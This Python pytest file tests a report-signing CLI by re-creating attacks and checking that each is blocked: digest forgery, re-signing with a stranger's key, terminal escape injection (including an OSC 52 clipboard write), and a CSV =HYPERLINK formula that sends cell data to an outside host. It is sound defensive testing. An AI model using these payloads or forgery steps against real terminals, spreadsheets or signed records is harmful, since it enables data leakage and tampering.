"""Issue 13, tried as an attacker would: each attack re-created and seen to fail.

Forged digests with a fake or missing key id, a report re-signed by someone
else, escape sequences in a report, files that others can read, formulas in
an exported CSV, reports whose structure is wrong, a --now that writes an
unreadable report; then what a coordinator does with nothing but OpenSSH, and
with a second state folder of their own.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
import io
import json
import os
import re
import shutil
import stat
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from click.testing import CliRunner, Result

from readiness import canonical, report, signing, state, workflow
from readiness.cli import cli

ROOT = Path(__file__).parent.parent
EXAMPLE = ROOT / "examples" / "answers.toml"
SOLO = Path(__file__).parent / "fixtures" / "solo.toml"
NOW = "2026-11-30T12:00:00Z"
HMAC_KEY = bytes(range(32))
ESC_TITLE = "\x1b]0;pwned\x07"
OSC_52 = "\x1b]52;c;ZXZpbA==\x07"


def invoke(*args: str | Path, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args], env=env)


def check(answers: Path, target: Path, *extra: str, env: dict[str, str] | None = None) -> Result:
    result = invoke(
        "check", "--answers", answers, "--no-input", "--now", NOW, "--report", target, *extra,
        env=env,
    )  # fmt: skip
    assert target.is_file(), result.output
    return result


def load(path: Path) -> dict[str, Any]:
    return tomllib.loads(path.read_text(encoding="utf-8"))


def dump(path: Path, doc: dict[str, Any]) -> None:
    path.write_bytes(tomli_w.dumps(doc).encode("utf-8"))


# --- the forged digest of issue 13 ----------------------------------------------------------------


def legacy_report(path: Path, home: Path) -> None:
    """A report signed the old way (HMAC) by the key in ``home``, as earlier versions did."""
    (home / state.KEY_FILE).write_text(HMAC_KEY.hex() + "\n", encoding="ascii")
    (home / state.KEY_FILE).chmod(0o600)
    check(EXAMPLE, path)
    doc = load(path)
    signoff = doc["signoff"]
    for key in ("public_key", "fingerprint", "digest", "signature"):
        del signoff[key]
    signoff["key_id"] = state.key_id(HMAC_KEY)
    signoff["sections"] = canonical.section_digests(doc, canonical.legacy_canonical)
    signoff["digest"] = canonical.legacy_digest(doc)
    mac = hmac.new(HMAC_KEY, signoff["digest"].encode("ascii"), hashlib.sha256).hexdigest()
    signoff["signature"] = "hmac-sha256:" + mac
    dump(path, doc)


def forge_legacy(path: Path, key_id: str | None) -> None:
    """Edit an answer, recompute the (keyless) digest, and point key_id away or drop it."""
    doc = load(path)
    doc["answers"]["devices"][1]["battery"] = 99
    signoff = doc["signoff"]
    if key_id is None:
        del signoff["key_id"]
    else:
        signoff["key_id"] = key_id
    signoff["sections"] = canonical.section_digests(doc, canonical.legacy_canonical)
    signoff["digest"] = canonical.legacy_digest(doc)
    dump(path, doc)


def test_a_legacy_report_verifies_on_the_machine_with_the_old_key(
    tmp_path: Path, readiness_home: Path
) -> None:
    path = tmp_path / "old.toml"
    legacy_report(path, readiness_home)
    here = invoke("verify", path)
    assert here.exit_code == 0, here.output
    assert "the old way (HMAC) with this machine's key" in here.stdout
    elsewhere = invoke("verify", path, env={"READINESS_HOME": str(tmp_path / "other")})
    assert elsewhere.exit_code == 1
    assert elsewhere.stderr == (
        f"error: {path}: cannot check the signature: it was signed the old way (HMAC), "
        "and this machine has no old signing key\n"
    )


@pytest.mark.parametrize("key_id", ["0123456789abcdef", None], ids=["fake key id", "no key id"])
def test_a_forged_digest_never_verifies_here_or_elsewhere(
    tmp_path: Path, readiness_home: Path, key_id: str | None
) -> None:
    path = tmp_path / "forged.toml"
    legacy_report(path, readiness_home)
    forge_legacy(path, key_id)
    here = invoke("verify", path)
    assert here.exit_code == 1, here.output
    assert here.stderr.startswith(f"error: {path}: cannot check the signature: ")
    elsewhere = invoke("verify", path, env={"READINESS_HOME": str(tmp_path / "other")})
    assert elsewhere.exit_code == 1
    shown = invoke("show", path, "--now", NOW)
    assert shown.exit_code == 1
    assert "✓ Report verifies" not in shown.stdout
    assert "✗ Report does NOT verify: cannot check the signature" in shown.stdout
    guided = invoke("guide", path, "--now", NOW)
    assert guided.exit_code == 1
    assert "use --force to go on anyway" in guided.stderr
    assert "Setup plan" not in guided.stdout
    rechecked = invoke("recheck", path, "--no-input", "--now", NOW)
    assert rechecked.exit_code == 1
    assert rechecked.stderr.endswith(
        "only a report that verifies as trusted is used; use --force to go on anyway\n"
    )
    # Nothing laundered: no report this machine signs was written from the forgery.
    assert sorted(p.name for p in tmp_path.glob("*.toml")) == ["forged.toml"]


def forged_by_edit(path: Path, how: str) -> None:
    """Ways to edit a report signed with Ed25519 and still hope to pass."""
    doc = load(path)
    doc["answers"]["devices"][1]["battery"] = 99
    signoff = doc["signoff"]
    signoff["sections"] = canonical.section_digests(doc)
    if how == "no signature":
        del signoff["signature"]
    elif how == "another key":
        doc = report.sign(
            {
                **doc,
                "signoff": {
                    k: v for k, v in signoff.items() if k in ("by", "at", "statement", "previous")
                },
            },
            signing.KeyPair.generate(),
        )
    elif how == "another key, our public key":
        public, fingerprint = signoff["public_key"], signoff["fingerprint"]
        doc = report.sign(doc, signing.KeyPair.generate())
        doc["signoff"]["public_key"], doc["signoff"]["fingerprint"] = public, fingerprint
    signoff = doc["signoff"]
    signoff["digest"] = canonical.digest(doc)
    dump(path, doc)


@pytest.mark.parametrize(
    ("how", "said"),
    [
        ("recomputed digest", "the signature is invalid"),
        ("no signature", "not signed: it has no signature"),
        ("another key", "with a key no one listed (key SHA256:"),
        ("another key, our public key", "the signature is invalid"),
    ],
)
def test_an_edited_ed25519_report_never_verifies(tmp_path: Path, how: str, said: str) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    forged_by_edit(path, how)
    result = invoke("verify", path)
    assert result.exit_code == 1, result.output
    assert said in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert invoke("recheck", path, "--no-input", "--now", NOW).exit_code == 1
    assert invoke("guide", path, "--now", NOW).exit_code == 1
    assert not list(tmp_path.glob("*recheck*"))


# --- escape sequences -----------------------------------------------------------------------------


def hostile_report(path: Path, home: Path) -> None:
    """A report this machine signed whose signer and one check message hold escapes."""
    check(EXAMPLE, path)
    doc = load(path)
    doc["signoff"]["by"] = f"Ada{ESC_TITLE}"
    doc["checks"][0]["message"] = f"fine{OSC_52}\u202e"
    for key in ("public_key", "fingerprint", "digest", "signature", "sections"):
        del doc["signoff"][key]
    dump(path, report.sign(doc, signing.load_or_create(home)))


def test_escape_sequences_from_a_report_reach_no_terminal(
    tmp_path: Path, readiness_home: Path
) -> None:
    first = tmp_path / "a.toml"
    hostile_report(first, readiness_home)
    second = tmp_path / "b.toml"
    shutil.copy(first, second)
    runs = [
        invoke("verify", first),
        invoke("verify", tmp_path, "--now", NOW),
        invoke("verify", tmp_path, "--now", NOW, "--format", "json"),
        invoke("verify", tmp_path, "--now", NOW, "--format", "csv"),
        invoke("verify", first, env={"READINESS_HOME": str(tmp_path / "other")}),
        invoke("show", first, "--now", NOW),
        invoke("show", first, "--now", NOW, "--format", "markdown"),
        invoke("guide", first, "--now", NOW),
    ]
    for result in runs:
        assert "\x1b" not in result.output, result.output
        assert "\x07" not in result.output
        assert "\u202e" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "signed by Ada\\x1b]0;pwned\\x07" in runs[0].stdout
    assert "fine\\x1b]52;c;ZXZpbA==\\x07\\u202e" in runs[5].stdout


def test_escape_sequences_in_an_error_line_are_shown_inert(tmp_path: Path) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    doc = load(path)
    doc["answers"]["trip"]["timezone"] = f"Mars{OSC_52}"
    dump(path, doc)
    result = invoke("show", path)
    assert result.exit_code == 2
    assert "\x1b" not in result.output
    assert len(result.stderr.splitlines()) == 1


# --- modes ----------------------------------------------------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_holding_imeis_are_0600_and_force_never_widens(
    tmp_path: Path, umask_022: None
) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    assert mode(path) == 0o600
    check(EXAMPLE, path, "--force")
    assert mode(path) == 0o600
    path.chmod(0o400)
    check(EXAMPLE, path, "--force")
    assert mode(path) == 0o400  # narrower stays narrower
    ics = tmp_path / "trip.ics"
    assert invoke("remind", path, "-o", ics, "--now", NOW).exit_code == 0
    assert mode(ics) == 0o600
    from readiness import answers

    saved = tmp_path / "answers.toml"
    workflow.save_answers(saved, answers.load(EXAMPLE))
    assert mode(saved) == 0o600


# --- formulas in a CSV export ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x/?"&C2,"click")'


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    added = invoke(
        "inventory", "add", "--label", FORMULA, "--model", "+iPhone 16",
        "--imei", "352099001761481", "--now", NOW,
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    exported = invoke("inventory", "export", "--format", "csv")
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert rows[1][:2] == ["'" + FORMULA, "'+iPhone 16"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "OWASP" in invoke("inventory", "export", "--help").stdout


def test_the_coordinator_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    text = EXAMPLE.read_text(encoding="utf-8").replace(
        'name = "Ada Lovelace"', 'name = "=HYPERLINK(\\"http://x/?\\"&C2,\\"click\\")"'
    )
    answers = tmp_path / "answers.toml"
    answers.write_text(text, encoding="utf-8")
    folder = tmp_path / "reports"
    folder.mkdir()
    check(answers, folder / "one.toml")
    check(EXAMPLE, folder / "two.toml")
    result = invoke("verify", folder, "--now", NOW, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["traveller"] == "'" + FORMULA
    assert "cell that a spreadsheet would read as a formula" in " ".join(
        invoke("verify", "--help").stdout.split()
    )


# --- malformed reports: exit 2, one line ----------------------------------------------------------


@pytest.mark.parametrize(
    ("where", "value", "line"),
    [
        (("answers", "trip", "timezone"), "Mars/Olympus", "answers.trip.timezone: 'Mars/Olympus'"),
        (("signoff", "by"), 5, "signoff.by: must be a string, got integer 5"),
        (("checks",), "x", "checks: must be a list of tables, got string 'x'"),
        (("report",), "x", "report: must be a table, got string 'x'"),
        (("signoff", "signature"), 5, "signoff.signature: must be a string, got integer 5"),
        (("signoff", "public_key"), [], "signoff.public_key: must be a string"),
    ],
)
@pytest.mark.parametrize("command", ["verify", "show", "remind", "recheck", "guide"])
def test_each_malformed_report_is_exit_2_in_one_line(
    tmp_path: Path, where: tuple[str, ...], value: Any, line: str, command: str
) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    doc = load(path)
    parent: Any = doc
    for part in where[:-1]:
        parent = parent[part]
    parent[where[-1]] = value
    dump(path, doc)
    extra = ["--no-input"] if command == "recheck" else []
    result = invoke(command, path, "--now", NOW, *extra)
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    assert re.sub(r" \(line \d+\)", "", lines[0]).startswith(f"error: {path}: {line}")
    assert "Traceback" not in result.output


def test_an_out_of_range_deadline_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    doc = load(path)
    doc["report"]["deadline"] = dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=8)))
    dump(path, doc)
    for command in ("show", "remind", "verify"):
        result = invoke(command, path, "--now", NOW)
        assert result.exit_code == 2
        assert [re.sub(r" \(line \d+\)", "", line) for line in result.stderr.splitlines()] == [
            f"error: {path}: report.deadline: 0001-01-01T00:00:00+08:00 is out of range"
        ]


@pytest.mark.parametrize("now", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:00:00-12:00"])
def test_now_out_of_range_is_one_line(tmp_path: Path, now: str) -> None:
    path = tmp_path / "report.toml"
    result = invoke("check", "--answers", EXAMPLE, "--no-input", "--now", now, "--report", path)
    assert result.exit_code == 2
    assert result.stderr == f"error: --now: {now} is out of range (years 2000-2199)\n"
    assert not path.exists()


# --- a coordinator with nothing but OpenSSH -------------------------------------------------------


def _ssh_keygen() -> str:
    found = shutil.which("ssh-keygen")
    if found is None:
        pytest.skip("ssh-keygen is not installed (apt-get install openssh-client)")
    version = subprocess.run(["ssh", "-V"], capture_output=True, text=True, check=False).stderr
    match = re.search(r"OpenSSH_(\d+)\.(\d+)", version)
    if match is None or (int(match[1]), int(match[2])) < (8, 1):
        pytest.skip(f"ssh-keygen -Y verify needs OpenSSH 8.1 or later, not {version.strip()}")
    return found


# The README's commands, exactly: the test runs what a coordinator is told to run.
EXTRACT = (
    "import sys, tomllib; s = tomllib.load(open(sys.argv[1], 'rb'))['signoff']; "
    "open('digest', 'w').write(s['digest']); open('sig', 'w').write(s['signature'] + '\\n')"
)


def test_ssh_keygen_accepts_the_signature_and_rejects_a_tampered_digest(
    tmp_path: Path, readiness_home: Path
) -> None:
    keygen = _ssh_keygen()
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    exported = invoke("key", "-o", tmp_path / "allowed_signers")
    assert exported.exit_code == 0, exported.output
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert EXTRACT in readme
    subprocess.run(["python3", "-c", EXTRACT, str(path)], cwd=tmp_path, check=True)
    command = [keygen, "-Y", "verify", "-f", "allowed_signers", "-I", "Ada Lovelace"]
    command += ["-n", "readiness-report", "-s", "sig"]
    documented = "ssh-keygen -Y verify -f allowed_signers -I " + '"Ada Lovelace"'
    assert f"{documented} -n readiness-report -s sig < digest" in readme
    good = subprocess.run(
        command, input=(tmp_path / "digest").read_bytes(), cwd=tmp_path, capture_output=True
    )
    assert good.returncode == 0, good.stderr
    assert b'Good "readiness-report" signature for Ada Lovelace' in good.stdout
    digest = load(path)["signoff"]["digest"]
    tampered = digest[:-1] + ("1" if digest.endswith("0") else "0")
    (tmp_path / "digest").write_text(tampered)
    bad = subprocess.run(
        command, input=(tmp_path / "digest").read_bytes(), cwd=tmp_path, capture_output=True
    )
    assert bad.returncode != 0


# --- two state folders: a traveller and a coordinator ---------------------------------------------


def test_a_coordinator_trusts_the_travellers_key_and_gets_the_table(tmp_path: Path) -> None:
    traveller = {"READINESS_HOME": str(tmp_path / "traveller")}
    coordinator = {"READINESS_HOME": str(tmp_path / "coordinator")}
    stranger = {"READINESS_HOME": str(tmp_path / "stranger")}
    folder = tmp_path / "collected"
    folder.mkdir()
    first = folder / "ada-singapore.toml"
    check(EXAMPLE, first, env=traveller)
    recheck = invoke(
        "recheck", first, "--no-input", "--now", "2026-11-30T20:00:00Z",
        "--report", folder / "ada-singapore-recheck.toml", env=traveller,
    )  # fmt: skip
    assert recheck.exit_code == 0, recheck.output
    check(SOLO, folder / "grace-lisbon.toml", "--signer", "Ada Lovelace", env=traveller)
    shutil.copy(EXAMPLE, folder / "answers.toml")  # not a report: skipped with a note
    exported = tmp_path / "ada.allowed_signers"
    made = invoke("key", "--name", "Ada Lovelace", "-o", exported, env=traveller)
    assert made.exit_code == 0, made.output
    line = exported.read_text(encoding="utf-8")
    assert line.startswith('"Ada Lovelace" namespaces="readiness-report" ssh-ed25519 AAAA')
    fingerprint = made.stdout.splitlines()[1].removeprefix("Fingerprint: ")

    untrusted = invoke("verify", folder, "--now", NOW, env=coordinator)
    assert untrusted.exit_code == 1
    assert untrusted.stderr.count(f"with a key no one listed (key {fingerprint})") == 3

    result = invoke("verify", folder, "--allowed-signers", exported, "--now", NOW, env=coordinator)
    assert result.exit_code == 0, result.output
    assert result.stderr == f"Note: {folder / 'answers.toml'}: skipped, not a readiness report\n"
    table = result.stdout.split("\n\n")[1].splitlines()
    assert table[0].split() == ["traveller", "trip", "departure", "verdict", "signature", "recheck"]
    rows = [re.split(r"\s{2,}", row) for row in table[2:]]
    assert rows == [
        [
            "Ada Lovelace",
            "Singapore and Tokyo",
            "Thu 3 Dec 2026 09:30 +08",
            "ready-with-warnings",
            "trusted",
            "done",
        ],
        [
            "Ada Lovelace",
            "Singapore and Tokyo",
            "Thu 3 Dec 2026 09:30 +08",
            "ready-with-warnings",
            "trusted",
            "done",
        ],
        [
            "Grace Hopper",
            "Lisbon",
            "Thu 10 Dec 2026 08:15 +00",
            rows[2][3],
            "trusted",
            "not due yet",
        ],
    ]
    assert result.stdout.rstrip().endswith("3 of 3 reports unchanged and trusted.")

    # The same key listed for someone else vouches for nothing; env works as the option does.
    bob = tmp_path / "bob.allowed_signers"
    bob.write_text(line.replace('"Ada Lovelace"', "Bob"), encoding="utf-8")
    as_bob = invoke(
        "verify", folder, "--now", NOW, env={**coordinator, "READINESS_ALLOWED_SIGNERS": str(bob)}
    )
    assert as_bob.exit_code == 1

    # Someone else's report in the folder: named, and the run fails.
    check(EXAMPLE, folder / "mallory.toml", "--signer", "Ada Lovelace", env=stranger)
    mixed = invoke(
        "verify", folder, "--allowed-signers", exported, "--now", NOW, "--format", "json",
        env=coordinator,
    )  # fmt: skip
    assert mixed.exit_code == 1
    document = json.loads(mixed.stdout)
    assert [r["signature"] for r in document["reports"]] == [
        "trusted",
        "trusted",
        "trusted",
        "unknown key",
    ]
    assert document["reports"][3]["recheck"] == "due now"
    assert document["ok"] is False


def test_a_bad_allowed_signers_file_is_exit_2_naming_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "report.toml"
    check(EXAMPLE, path)
    signers = tmp_path / "allowed_signers"
    signers.write_text("# ours\nAda ssh-rsa\n", encoding="utf-8")
    result = invoke("verify", path, "--allowed-signers", signers)
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        f"error: {signers}: line 2: the ssh-rsa key's data is missing"
    ]


def test_key_without_a_name_uses_the_name_last_signed_as(tmp_path: Path) -> None:
    refused = invoke("key")
    assert refused.exit_code == 2
    assert refused.stderr == (
        "error: --name: no report signed here yet: give the name you sign reports as\n"
    )
    check(EXAMPLE, tmp_path / "report.toml")
    shown = invoke("key")
    assert shown.exit_code == 0
    assert shown.stdout.startswith('"Ada Lovelace" namespaces="readiness-report" ssh-ed25519 ')
    plain = invoke("key", "--name", "ada@example.org")
    assert plain.stdout.startswith('ada@example.org namespaces="readiness-report" ssh-ed25519 ')
    assert invoke("key", "--name", "a,b").exit_code == 2


def test_a_forced_recheck_of_a_hostile_report_prints_no_escape(
    tmp_path: Path, readiness_home: Path
) -> None:
    path = tmp_path / "a.toml"
    hostile_report(path, readiness_home)
    doc = load(path)
    doc["answers"]["devices"][1]["battery"] = 99  # changed after sign-off: refused, then forced
    dump(path, doc)
    refused = invoke("recheck", path, "--no-input", "--now", NOW)
    assert refused.exit_code == 1
    forced = invoke("recheck", path, "--no-input", "--now", NOW, "--force")
    assert forced.exit_code in (0, 1), forced.output
    for result in (refused, forced):
        assert "\x1b" not in result.output
    assert "rechecking it anyway (--force)" in forced.stderr
    assert "signed by Ada Lovelace" in forced.stdout  # traveler.name, not the hostile signer
